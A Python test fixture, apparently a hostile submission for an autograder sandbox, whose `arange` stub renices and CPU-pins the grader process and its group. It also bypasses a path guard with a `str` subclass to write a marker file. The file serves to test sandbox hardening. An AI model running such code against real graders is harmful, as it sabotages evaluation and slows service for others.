"""Hostile submission: slows the grader down by renicing and re-pinning it.

``os.setpriority`` and ``os.sched_setaffinity`` raise no audit event, so the guard never sees
them, and the worker runs as the grader's user. From its first case the submission sets the
grader (``os.getppid()``) and the grader's process group to nice 19 and pins the grader to a
single CPU: every student graded after it (and the grader's own judging) crawls. It also
calls ``setpriority(PRIO_USER, ...)``, which renices every process of a user; as root it
aims that at uid 65534 ("nobody") rather than at every root process on the machine, which
is enough to show the call gets through. It records what it changed in
``/tmp/torchlab-escape-renice_grader`` (written with a ``str`` subclass that the guard's
realpath reads as ``/dev/null``, see ``fspath_trick.py``) and in what the case prints. The
grader must refuse changing any other process's priority or CPUs (a seccomp filter, or a
worker in its own PID namespace and cgroup), and the score is 0.
"""

import os

MARK = "/tmp/torchlab-escape-renice_grader"


class Sly(str):
    def __getitem__(self, key):
        return "dev/null" if key == slice(1, None) else str.__getitem__(self, key)


def _try(log, what, fn):
    try:
        fn()
        log.append(f"CHANGED {what}")
    except OSError as exc:
        said = "guard refused" if "may not" in str(exc) else "reached the kernel"
        log.append(f"{said}: {what}: {exc}")


def _attack():
    log, grader = [], os.getppid()
    _try(log, f"nice 19 of the grader {grader}", lambda: os.setpriority(0, grader, 19))
    group = os.getpgid(grader)
    _try(log, f"nice 19 of its group {group}", lambda: os.setpriority(os.PRIO_PGRP, group, 19))
    one_cpu = {max(os.sched_getaffinity(grader))}
    _try(log, f"grader pinned to {one_cpu}", lambda: os.sched_setaffinity(grader, one_cpu))
    uid = os.getuid() or 65534  # root: every root process would crawl; show it on nobody
    _try(log, f"nice 19 of uid {uid}", lambda: os.setpriority(os.PRIO_USER, uid, 19))
    log.append(f"grader now: nice {os.getpriority(0, grader)}, CPUs {os.sched_getaffinity(grader)}")
    try:
        with open(Sly(MARK), "w") as f:
            f.write("\n".join(log) + "\n")
    except OSError as exc:
        log.append(f"marker refused: {exc}")
    return log


_log: list[str] = []


def arange(*args, **kwargs):
    if not _log:
        _log.extend(_attack())
    print("\n".join(_log))
    raise NotImplementedError("arange: reniced the grader")
